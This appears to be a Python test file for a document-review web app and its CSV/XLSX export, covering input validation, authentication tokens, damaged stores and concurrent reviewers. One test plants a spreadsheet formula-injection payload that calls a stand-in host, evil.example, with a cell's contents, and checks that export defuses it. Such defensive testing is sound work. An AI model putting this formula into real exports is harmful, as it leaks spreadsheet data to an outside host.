"""Review and export attacked and misused: overflowing and non-ASCII values, a damaged or empty store, a server
bound beyond loopback, formulas in the exported text, two reviewers on one cell, files of OUTDIR that are no
report, the batch's own pages styled through the server, whole numbers in the CSV."""

from __future__ import annotations

import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.request

import pandas as pd
import pytest

from tests.batch.conftest import run_cli
from tests.conftest import ROOT
from tests.review.test_app import TOTAL, doc_id, post


def _decisions(outdir) -> int:
    db = sqlite3.connect(outdir / "results.sqlite")
    try:
        return db.execute("SELECT count(*) FROM decisions").fetchone()[0]
    finally:
        db.close()


@pytest.mark.parametrize("value", ["9999999999999999999999999", "1_000", "１２３", "٣", "1e3", "12 3"])
def test_an_override_that_is_no_whole_ascii_number_is_refused_not_a_500(client, outdir, value):
    doc = doc_id(outdir, "hongze_district_2023.pdf")
    resp = post(client, doc, TOTAL, action="override", value=value)
    assert resp.status_code == 400 and "at most 15 digits" in resp.get_data(as_text=True)
    assert _decisions(outdir) == 0
    assert post(client, doc, TOTAL, action="override", value=" -42 ").status_code == 303


def test_the_batch_pages_are_served_styled_and_scriptless(client):
    resp = client.get("/files/summary.html")
    csp = resp.headers["Content-Security-Policy"]
    assert resp.status_code == 200 and "<style>" in resp.get_data(as_text=True)
    assert "style-src 'unsafe-inline'" in csp and "script-src 'none'" in csp
    assert "style-src 'self'" in client.get("/").headers["Content-Security-Policy"]  # the app's pages: no inline


def test_only_the_batch_reports_are_served(client, outdir):
    shutil.copy(outdir / "results.sqlite", outdir / "backup.sqlite")
    (outdir / "notes.txt").write_text("private", encoding="utf-8")
    assert client.get("/files/hongze_district_2023.html").status_code == 200
    assert client.get("/files/hongze_district_2023.json").status_code == 200
    for name in ("backup.sqlite", "notes.txt", "results.sqlite"):
        assert client.get(f"/files/{name}").status_code == 404, name


@pytest.mark.parametrize("damage", ["truncated", "random", "empty"])
def test_a_damaged_or_empty_store_is_exit_4_and_left_as_it_was(outdir, damage):
    store = outdir / "results.sqlite"
    for extra in outdir.glob("results.sqlite-*"):
        extra.unlink()
    data = store.read_bytes()
    store.write_bytes({"truncated": data[:len(data) // 3], "random": os.urandom(len(data)), "empty": b""}[damage])
    before = store.read_bytes()
    for command in (("review", outdir, "--port", "0"), ("export", outdir)):
        proc = run_cli(*command, timeout=120)
        assert proc.returncode == 4, (command, proc.stderr)
        assert "results.sqlite" in proc.stderr and "Remedy" in proc.stderr and "Traceback" not in proc.stderr
    assert store.read_bytes() == before


def test_the_csv_writes_whole_numbers_as_integers(outdir):
    assert run_cli("export", outdir, "--format", "csv").returncode == 0
    text = (outdir / "cells.csv").read_text(encoding="utf-8")
    assert ".0," not in text
    import csv

    with open(outdir / "cells.csv", encoding="utf-8", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["value"]]
    counts = [r for r in rows if r["value_text"].lstrip("-").isdigit()]
    assert len(counts) > 500 and all(r["value"] == r["value_text"] for r in counts)
    assert all(r["value"] == r["value_text"] for r in rows if "." in r["value_text"])  # amounts keep decimals


def test_text_that_would_be_a_formula_is_exported_as_text(outdir):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    db = sqlite3.connect(outdir / "results.sqlite")
    with db:
        db.execute("UPDATE documents SET agency = ?", (evil,))
    db.close()
    assert run_cli("export", outdir, "--format", "csv").returncode == 0
    assert run_cli("export", outdir, "--format", "xlsx").returncode == 0
    cells = pd.read_csv(outdir / "cells.csv")
    assert (cells["agency"] == "'" + evil).all()
    assert (pd.read_csv(outdir / "cells.csv")["observed"].dropna().astype(str).str[0] != "=").all()
    import openpyxl

    book = openpyxl.load_workbook(outdir / "cells.xlsx")
    agency = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value and
              "HYPERLINK" in str(c.value)]
    assert agency and all(c.data_type == "s" for c in agency)
    assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_stale_decision_is_refused_and_every_decision_is_in_the_history(client, outdir):
    doc = doc_id(outdir, "hongze_district_2023.pdf")
    page = client.get(f"/doc/{doc}?cell={TOTAL}").get_data(as_text=True)
    assert 'name="version" value="0"' in page  # what both reviewers' pages show
    assert post(client, doc, TOTAL, action="override", value="12", version="0", reviewer="王芳").status_code == 303
    stale = post(client, doc, TOTAL, action="accept", version="0", reviewer="李伟")
    assert stale.status_code == 409
    words = stale.get_data(as_text=True)
    assert "Not saved" in words and "王芳" in words and "override → 12" in words
    assert post(client, doc, TOTAL, action="accept", version="1", reviewer="李伟").status_code == 303
    assert post(client, doc, TOTAL, action="clear", version="2", reviewer="李伟").status_code == 303
    assert run_cli("export", outdir, "--format", "csv", "--history").returncode == 0
    history = pd.read_csv(outdir / "cells.history.csv")
    assert list(history.action) == ["override", "accept", "clear"]
    assert list(history.reviewer) == ["王芳", "李伟", "李伟"] and set(history.key) == {TOTAL}
    assert history.value.iloc[0] == 12


def test_beyond_loopback_every_request_needs_the_token(outdir):
    from recover.review.app import create_app

    app = create_app(outdir, "tester", token="s3cret")
    c = app.test_client()
    c.environ_base["HTTP_HOST"] = "reviewer-pc.lan:8765"  # a colleague's browser names the machine
    assert c.get("/").status_code == 401
    assert c.get("/files/summary.html").status_code == 401
    assert c.get("/?token=wrong").status_code == 401
    first = c.get("/?token=s3cret")
    assert first.status_code == 200 and "recover_review_token" in first.headers["Set-Cookie"]
    assert c.get("/").status_code == 200  # the cookie carries it from then on
    other = app.test_client()
    assert other.get("/", headers={"Authorization": "Bearer s3cret", "Host": "10.0.0.5:8765"}).status_code == 200
    assert other.post(f"/doc/{doc_id(outdir, 'hongze_district_2023.pdf')}/cell/{TOTAL}",
                      data={"action": "accept", "reviewer": "x"}).status_code == 401


def test_review_bound_to_all_addresses_prints_a_token_and_refuses_requests_without_it(outdir):
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.Popen([sys.executable, "-m", "recover", "review", str(outdir), "--host", "0.0.0.0", "--port",
                             "0"], cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert "needs the token" in line and "?token=" in line
        url = line.split("open ", 1)[1].split()[0].replace("0.0.0.0", "127.0.0.1")
        bare = url.split("?")[0]
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(bare, timeout=30)
        assert refused.value.code == 401
        with urllib.request.urlopen(url, timeout=30) as resp:
            assert resp.status == 200 and "hongze_district_2023.pdf" in resp.read().decode("utf-8")
    finally:
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=30)
    assert proc.returncode == 0
